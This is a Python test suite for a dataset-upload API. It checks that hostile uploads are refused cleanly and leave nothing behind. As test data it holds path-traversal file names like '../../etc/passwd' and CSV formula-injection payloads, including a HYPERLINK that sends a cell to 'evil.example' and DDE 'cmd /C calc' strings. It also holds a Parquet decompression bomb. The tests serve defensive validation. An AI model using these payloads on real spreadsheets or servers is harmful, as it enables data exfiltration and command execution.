"""Hostile uploads and bodies: each gets a 4xx/507 naming what is wrong, and leaves nothing behind.

Every test ends with an empty <data_dir>/tmp; tests of refused uploads also check that no dataset
row and no dataset directory exists.
"""

from __future__ import annotations

import asyncio
import io
import json
from collections.abc import Iterator
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlalchemy import func, select

from app.core.config import Settings
from app.dataset import upload as upload_module
from app.db.models import Dataset
from tests.conftest import auth, create_api_key
from tests.dataset.util import created, error, leftovers, upload

MAX_UPLOAD = 256 * 1024
MAX_LINE = 4096
MAX_DECODED = 1024 * 1024
DEPTH = 64  # the default max_json_depth
CSV = b"text,label\ngood film,pos\nbad film,neg\n"
BOUNDARY = b"HostileBoundary"


@pytest.fixture
def settings(tmp_path):  # type: ignore[no-untyped-def]
    # Replaces the shared fixture for this module: the app under test gets these limits.
    return Settings(
        data_dir=tmp_path / "data",
        redis_url=None,
        max_upload_bytes=MAX_UPLOAD,
        max_text_chars=1000,
        max_line_bytes=MAX_LINE,
        max_decoded_bytes=MAX_DECODED,
        min_free_disk_bytes=1024 * 1024,
    )


@pytest.fixture(autouse=True)
def _tmp_dir_stays_empty(settings: Settings) -> Iterator[None]:
    yield
    tmp = settings.data_dir / "tmp"
    assert not tmp.exists() or list(tmp.iterdir()) == []


def assert_nothing_stored(app: FastAPI, settings: Settings) -> None:
    """No dataset row, no dataset directory, no file but the database."""
    with app.state.sessionmaker() as session:
        assert session.scalar(select(func.count()).select_from(Dataset)) == 0
    datasets = settings.data_dir / "datasets"
    assert not datasets.exists() or list(datasets.iterdir()) == []
    assert leftovers(settings) == []


def refused(client: TestClient, content: bytes, filename: str, status: int = 422) -> dict[str, Any]:
    return error(upload(client, content, filename), status)


def multipart(filename: bytes = b"rows.csv", content: bytes = CSV) -> bytes:
    """A multipart body written by hand, so that the file name goes out byte for byte."""
    return (
        b"--" + BOUNDARY + b'\r\nContent-Disposition: form-data; name="task"\r\n\r\n'
        b"classification\r\n"
        b"--"
        + BOUNDARY
        + b'\r\nContent-Disposition: form-data; name="file"; filename="'
        + filename
        + b'"\r\n\r\n'
        + content
        + b"\r\n--"
        + BOUNDARY
        + b"--\r\n"
    )


MULTIPART_HEADERS = {"content-type": f"multipart/form-data; boundary={BOUNDARY.decode()}"}


def drive(
    app: FastAPI, chunks: list[bytes], *, disconnect: bool, content_length: int | None = None
) -> tuple[int, dict[str, Any], list[str]]:
    """POST /v1/datasets through the ASGI interface, one message per chunk.

    With `disconnect`, the client goes away after the last chunk instead of finishing the body.
    Returns the status, the error body and the names in tmp/ when the body stopped arriving.
    """
    settings: Settings = app.state.settings
    headers = [
        (b"content-type", MULTIPART_HEADERS["content-type"].encode()),
        (b"authorization", f"Bearer {create_api_key(settings)}".encode()),
    ]
    if content_length is not None:
        headers.append((b"content-length", str(content_length).encode()))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/datasets",
        "raw_path": b"/v1/datasets",
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
    }
    pending = list(chunks)
    at_end: list[str] = []
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        if pending:
            chunk = pending.pop(0)
            more = disconnect or bool(pending)
            return {"type": "http.request", "body": chunk, "more_body": more}
        at_end.extend(sorted(p.name for p in (settings.data_dir / "tmp").iterdir()))
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    asyncio.run(app(scope, receive, send))  # type: ignore[arg-type]
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return status, json.loads(body)["error"], at_end


def parquet_bytes(table: pa.Table, **kwargs: Any) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf, **kwargs)
    return buf.getvalue()


# 1. Free disk space -------------------------------------------------------------------------


def test_reserve_above_the_free_space_is_507_before_reading(client, app, settings):  # type: ignore[no-untyped-def]
    settings.min_free_disk_bytes = 1 << 62  # more than any real disk has free
    err = error(upload(client, CSV), 507)
    assert err["code"] == "insufficient_storage"
    assert "free disk space" in err["message"]
    assert err["details"]["field"] == "file"
    assert_nothing_stored(app, settings)


def test_declared_length_counts_against_the_reserve(client, app, settings, monkeypatch):  # type: ignore[no-untyped-def]
    body = multipart()
    free = settings.min_free_disk_bytes + len(body) - 1  # one byte short once the body lands
    monkeypatch.setattr(upload_module, "free_disk_bytes", lambda path: free)
    err = error(client.post("/v1/datasets", content=body, headers=MULTIPART_HEADERS), 507)
    assert err["details"]["incoming"] == len(body)
    monkeypatch.setattr(upload_module, "free_disk_bytes", lambda path: free + 1)
    created(client.post("/v1/datasets", content=body, headers=MULTIPART_HEADERS))


def test_disk_filling_up_mid_stream_is_507_and_removes_the_part(app, settings, monkeypatch):  # type: ignore[no-untyped-def]
    # No Content-Length (chunked): free space is watched as the body arrives.
    answers = iter([10 * settings.min_free_disk_bytes, 0])
    monkeypatch.setattr(upload_module, "free_disk_bytes", lambda path: next(answers))
    monkeypatch.setattr(upload_module, "DISK_CHECK_BYTES", 1000)
    body = multipart(content=b"text,label\n" + b"some text,x\n" * 500)
    chunks = [body[i : i + 1000] for i in range(0, len(body), 1000)]
    status, err, _ = drive(app, chunks, disconnect=False)
    assert status == 507
    assert err["code"] == "insufficient_storage"
    assert_nothing_stored(app, settings)


# 2. JSON nesting ----------------------------------------------------------------------------


def nested(depth: int) -> str:
    """A JSON value with `depth` arrays inside each other."""
    return "[" * depth + "]" * depth


def test_jsonl_row_nested_past_the_limit_names_its_line(client, app, settings):  # type: ignore[no-untyped-def]
    ok = '{"text": "a", "label": "x"}\n'
    # The row object is one level, so meta adds DEPTH more: one past the limit.
    deep = '{"text": "b", "label": "y", "meta": ' + nested(DEPTH) + "}\n"
    err = refused(client, (ok + ok + deep).encode(), "a.jsonl")
    assert err["code"] == "json_too_deep"
    assert err["message"].startswith("line 3: ")
    assert str(DEPTH) in err["message"]
    assert err["details"] == {"line": 3, "limit": DEPTH}
    assert_nothing_stored(app, settings)


def test_jsonl_at_the_limit_is_accepted(client):  # type: ignore[no-untyped-def]
    # A "[" inside a string is text, not nesting.
    row = '{"text": "[[[[' + "[" * 100 + '", "label": "x", "m": ' + nested(DEPTH - 1) + "}\n"
    content = (row + '{"text": "b", "label": "y"}\n').encode()
    assert created(upload(client, content, "a.jsonl"))["num_rows"] == 2


@pytest.mark.parametrize(
    ("filename", "content", "line"),
    [
        ("a.jsonl", b"[" * (MAX_LINE - 1), 1),  # a longer line is refused for its length
        ("a.json", b"[" * 100_000, 1),
        # Format detection parses the first line too: it must not be the one to fail.
        ("a.json", b'{"a": ' + b"[" * 100_000, 1),
        ("upload", b'{"a": ' + b"[" * 100_000 + b"\n{}\n", 1),
        ("a.json", b'[\n{"text": "a", "label": "x"},\n' + b"[" * 100_000, 3),
        ("a.json", ('[{"text": "a", "label": "x"},\n {"m": ' + nested(DEPTH) + "}]").encode(), 2),
    ],
)
def test_deep_json_uploads_name_the_line(client, app, settings, filename, content, line):  # type: ignore[no-untyped-def]
    err = refused(client, content, filename)
    assert err["code"] == "json_too_deep"
    assert err["details"]["line"] == line
    assert_nothing_stored(app, settings)


@pytest.mark.parametrize("route", ["/v1/jobs", "/v1/predict/classification", "/v1/predict/qa"])
@pytest.mark.parametrize(
    "body",
    [b"[" * 100_000, b'{"model": "mdl_x", "inputs": ' + nested(DEPTH).encode() + b"}"],
)
@pytest.mark.parametrize("content_type", ["application/json", "application/x+json", None])
def test_deep_json_bodies_are_422_not_500(client, route, body, content_type):  # type: ignore[no-untyped-def]
    headers = {"content-type": content_type} if content_type else {}
    err = error(client.post(route, content=body, headers=headers), 422)
    assert err["code"] == "json_too_deep"
    assert err["details"] == {"line": 1, "limit": DEPTH}


def test_json_bodies_at_the_limit_reach_the_route(client):  # type: ignore[no-untyped-def]
    inputs = nested(DEPTH - 1)  # inside the body's object: DEPTH levels in all
    body = f'{{"model": "x", "inputs": {inputs}}}'
    resp = client.post("/v1/predict/classification", content=body)
    assert error(resp, 422)["code"] == "invalid_input"  # the schema's answer, not the depth's
    brackets = "[" * 1000  # in a string: text, not nesting
    resp = client.post("/v1/predict/classification", json={"model": "mdl_x", "inputs": [brackets]})
    assert error(resp, 404)["code"] == "not_found"


def test_chunked_json_body_over_the_size_limit_is_413(tmp_path):  # type: ignore[no-untyped-def]
    from app.db.migrate import upgrade
    from app.main import create_app
    from tests.conftest import RecordingQueue

    settings = Settings(data_dir=tmp_path / "d", max_request_bytes=1000)
    upgrade(settings)
    headers = auth(create_api_key(settings))
    with TestClient(create_app(settings, queue=RecordingQueue()), headers=headers) as client:
        chunks = iter([b'{"model": "x", "inputs": ["', b"a" * 900, b"a" * 900, b'"]}'])
        err = error(client.post("/v1/jobs", content=chunks), 413)
    assert err["code"] == "payload_too_large"


# 3. Partial uploads -------------------------------------------------------------------------


def test_client_disconnect_mid_upload_leaves_nothing(app, settings):  # type: ignore[no-untyped-def]
    body = multipart(content=b"text,label\n" + b"some text,x\n" * 500)
    half = [body[i : i + 1000] for i in range(0, len(body) // 2, 1000)]
    status, err, in_tmp = drive(app, half, disconnect=True, content_length=len(body))
    assert any(name.endswith(".part") for name in in_tmp)  # the part was on disk mid-upload
    assert status == 400
    assert "disconnected" in err["message"]
    assert_nothing_stored(app, settings)


def test_upload_over_the_size_limit_while_streaming_leaves_nothing(app, settings):  # type: ignore[no-untyped-def]
    # No Content-Length to refuse up front: the limit applies as the file part arrives.
    body = multipart(content=b"text,label\n" + b"x" * (MAX_UPLOAD + 1) + b",y\n")
    chunks = [body[i : i + 64 * 1024] for i in range(0, len(body), 64 * 1024)]
    status, err, _ = drive(app, chunks, disconnect=False)
    assert status == 413
    assert err["code"] == "payload_too_large"
    assert str(MAX_UPLOAD) in err["message"]
    assert_nothing_stored(app, settings)


def test_upload_failing_to_parse_leaves_nothing(client, app, settings):  # type: ignore[no-untyped-def]
    err = refused(client, b"text,label\na,x\nb,y,z\n", "a.csv")
    assert err["details"]["line"] == 3
    assert_nothing_stored(app, settings)


# 4. Client file names -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw_name", "expected"),
    [
        (b"../../etc/passwd", "passwd"),
        (b"a/b.csv", "b.csv"),
        (b"C:\\x.csv", "x.csv"),
        (b"..\\..\\x.csv", "x.csv"),
        (b"a\x00b.csv", "ab.csv"),
        (b"a\nb.csv", "ab.csv"),
        (b"evil\xe2\x80\xaevsc.csv", "evilvsc.csv"),  # a right-to-left override
        (b"/", "dataset"),
        (b"..", "dataset"),
        (b"n" * 3000 + b".csv", "n" * 200),
    ],
)
def test_client_file_names_are_labels_never_paths(client, app, settings, raw_name, expected):  # type: ignore[no-untyped-def]
    resp = client.post("/v1/datasets", content=multipart(raw_name), headers=MULTIPART_HEADERS)
    body = created(resp)
    assert body["name"] == expected
    with app.state.sessionmaker() as session:
        row = session.get(Dataset, body["id"])
        assert row is not None
        assert row.storage_path == f"datasets/{body['id']}"
    assert leftovers(settings) == [
        f"datasets/{body['id']}/data.parquet",
        f"datasets/{body['id']}/source",
    ]


def test_a_line_break_that_ends_the_part_header_is_a_bad_request(client, app, settings):  # type: ignore[no-untyped-def]
    resp = client.post("/v1/datasets", content=multipart(b"a\r\nb.csv"), headers=MULTIPART_HEADERS)
    assert error(resp, 400)["code"] == "bad_request"
    assert_nothing_stored(app, settings)


# 5. Encoding, formulas, long lines, broken JSON and Parquet -----------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "line"),
    [
        ("a.csv", b"text,label\nok,x\n\xc3\x28 bad,y\n", 3),
        ("a.tsv", b"text\tlabel\nok\tx\nok\ty\n\xff\tz\n", 4),
        ("a.jsonl", b'{"text": "ok", "label": "x"}\n{"text": "\xed\xa0\x80", "label": "y"}\n', 2),
    ],
)
def test_invalid_utf8_names_its_line(client, app, settings, filename, content, line):  # type: ignore[no-untyped-def]
    err = refused(client, content, filename)
    assert err["code"] == "invalid_encoding"
    assert err["message"].startswith(f"line {line}: invalid UTF-8")
    assert_nothing_stored(app, settings)


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "  =cmd",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    '- 1 + WEBSERVICE("http://x")',
]


@pytest.mark.parametrize("cell", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_formula_cells_are_refused_with_line_and_column(client, app, settings, cell, delimiter):  # type: ignore[no-untyped-def]
    quoted = '"' + cell.replace('"', '""') + '"' if delimiter == "," else cell
    rows = [("text", "label"), ("good film", "pos"), ("bad film", quoted)]
    content = "".join(f"{text}{delimiter}{label}\n" for text, label in rows)
    err = refused(client, content.encode(), "a.csv" if delimiter == "," else "a.tsv")
    assert err["code"] == "formula_cell"
    assert err["message"].startswith("line 3, column 2 ('label'): ")
    assert "apostrophe" in err["message"]
    assert err["details"] == {"line": 3, "column": 2, "field": "label"}
    assert_nothing_stored(app, settings)


@pytest.mark.parametrize(
    "text",
    [
        "- great film",
        "+1",
        "-5 stars",
        "@user thanks",
        "'=1+1",
        "a = b",
        "-- long --",
        "+ (yes)",
        "=== Headline ===",
        "==",
    ],
)
def test_plain_text_that_starts_with_a_sign_is_accepted(client, settings, text):  # type: ignore[no-untyped-def]
    content = f'text,label\n"{text}",pos\nok,neg\n'.encode()
    body = created(upload(client, content, "a.csv"))
    table = pq.read_table(settings.data_dir / "datasets" / body["id"] / "data.parquet")
    assert table["text"].to_pylist()[0] == text


def test_formulas_in_jsonl_and_parquet_are_data(client):  # type: ignore[no-untyped-def]
    # Only CSV/TSV files open in spreadsheets; see the README's Design section.
    rows = [{"text": "=1+1", "label": "x"}, {"text": "+SUM(A1)", "label": "y"}]
    jsonl = "".join(json.dumps(r) + "\n" for r in rows).encode()
    assert created(upload(client, jsonl, "a.jsonl"))["num_rows"] == 2
    table = pa.table({"text": ["=1+1", "ok"], "label": ["x", "y"]})
    assert created(upload(client, parquet_bytes(table), "a.parquet"))["num_rows"] == 2


@pytest.mark.parametrize(
    ("filename", "template"),
    [
        ("a.csv", "text,label,pad\nhi,x,{}\nho,y,z\n"),
        ("a.tsv", "text\tlabel\tpad\nhi\tx\t{}\nho\ty\tz\n"),
        ("a.jsonl", '{{"text": "hi", "label": "x"}}\n{{"text": "ho", "label": "y", "p": "{}"}}\n'),
    ],
)
def test_overlong_line_is_refused_by_number(client, app, settings, filename, template):  # type: ignore[no-untyped-def]
    line = 2
    fixed = len(template.split("\n")[line - 1].format(""))
    at_cap = template.format("p" * (MAX_LINE - fixed)).encode()
    assert created(upload(client, at_cap, filename))["num_rows"] == 2
    over = template.format("p" * (MAX_LINE - fixed + 1)).encode()
    err = refused(client, over, filename)
    assert err["code"] == "line_too_long"
    assert err["message"].startswith(f"line {line}: ")
    assert err["details"] == {"line": line, "limit": MAX_LINE}


def test_an_overlong_line_is_not_read_whole() -> None:
    from app.core.errors import InvalidInput
    from app.dataset.parsing import _raw_lines

    f = io.BytesIO(b"ok\n" + b"x" * (10 * MAX_LINE) + b"\n")
    with pytest.raises(InvalidInput, match="^line 2: "):
        list(_raw_lines(f, MAX_LINE))
    assert f.tell() <= 3 + MAX_LINE + 2


def test_line_cap_below_the_text_cap_is_a_settings_error() -> None:
    with pytest.raises(ValidationError, match="max_line_bytes"):
        Settings(max_text_chars=2000, max_line_bytes=1000)


@pytest.mark.parametrize(
    ("filename", "content", "line"),
    [
        ("a.jsonl", b'{"text": "a", "label": "x"}\n{"text": "b", "label": \n', 2),
        ("a.jsonl", b'{"text": "a", "label": "x"}\n{"text": "b", "label": "y"}}\n', 2),
        ("a.json", b'[{"text": "a", "label": "x"},\n {"text": "b", "label": "y"', 2),
        ("a.json", b'[{"text": "a", "label": "x"},\n\n {"text": "b\x01", "label": "y"}]', 3),
    ],
)
def test_malformed_json_names_its_line(client, app, settings, filename, content, line):  # type: ignore[no-untyped-def]
    err = refused(client, content, filename)
    assert err["code"] == "parse_error"
    assert err["message"].startswith(f"line {line}: invalid JSON")
    assert_nothing_stored(app, settings)


GOOD_PARQUET = parquet_bytes(pa.table({"text": ["a", "b"], "label": ["x", "y"]}))


@pytest.mark.parametrize(
    "content",
    [
        GOOD_PARQUET[: len(GOOD_PARQUET) // 2],
        GOOD_PARQUET[:-12] + b"\xff" * 8 + GOOD_PARQUET[-4:],
        b"PAR1" + b"\x00garbage" * 100 + b"PAR1",
        b"PAR1" + b"x" * 100 + b"\x10\x00\x00\x00PAR1",
        b"PAR1",
    ],
)
def test_corrupt_parquet_is_refused_with_a_reason(client, app, settings, content):  # type: ignore[no-untyped-def]
    err = refused(client, content, "a.parquet")
    assert err["code"] == "parse_error"
    assert err["message"].startswith("not a valid Parquet file: ")
    assert_nothing_stored(app, settings)


@pytest.mark.parametrize(
    ("table", "field", "kind"),
    [
        (pa.table({"text": [{"a": 1}, {"a": 2}], "label": ["x", "y"]}), "text", "objects"),
        (pa.table({"text": [["a"], ["b"]], "label": ["x", "y"]}), "text", "lists"),
        (pa.table({"text": ["a", "b"], "label": [["x"], ["y"]]}), "label", "lists"),
    ],
)
def test_nested_parquet_columns_where_text_is_expected(client, app, settings, table, field, kind):  # type: ignore[no-untyped-def]
    err = refused(client, parquet_bytes(table), "a.parquet")
    assert err["code"] == "invalid_column_type"
    assert err["message"].startswith(f"row 1: column '{field}' holds")
    assert f"holds {kind}" in err["message"]
    assert err["details"]["field"] == field
    assert_nothing_stored(app, settings)


def test_nested_jsonl_values_name_the_line(client, app, settings):  # type: ignore[no-untyped-def]
    content = b'\n\n{"text": {"a": 1}, "label": "x"}\n{"text": {"b": 1}, "label": "y"}\n'
    err = refused(client, content, "a.jsonl")
    assert err["code"] == "invalid_column_type"
    assert err["message"].endswith("(line 3 of the file)")
    assert err["details"]["line"] == 3


def test_parquet_binary_text_must_be_utf8(client, app, settings):  # type: ignore[no-untyped-def]
    bad = pa.table({"text": pa.array([b"ok", b"caf\xe9"], pa.binary()), "label": ["x", "y"]})
    err = refused(client, parquet_bytes(bad), "a.parquet")
    assert err["code"] == "invalid_encoding"
    assert err["message"].startswith("row 2: column 'text'")
    text = pa.array([b"ok", "café".encode()], pa.binary())
    good = pa.table({"text": text, "label": ["x", "y"]})
    body = created(upload(client, parquet_bytes(good), "a.parquet"))
    table = pq.read_table(settings.data_dir / "datasets" / body["id"] / "data.parquet")
    assert table["text"].to_pylist() == ["ok", "café"]


def test_parquet_that_decodes_past_the_cap_is_413(client, app, settings):  # type: ignore[no-untyped-def]
    # One long value repeated: a few KB on disk, dictionary-encoded, far more once decoded.
    bomb = pa.table({"text": ["y" * 10_000] * 200, "label": ["x", "y"] * 100})
    content = parquet_bytes(bomb, compression="zstd")
    assert len(content) < 10_000
    err = refused(client, content, "a.parquet", 413)
    assert err["code"] == "decoded_too_large"
    assert str(MAX_DECODED) in err["message"]
    assert_nothing_stored(app, settings)
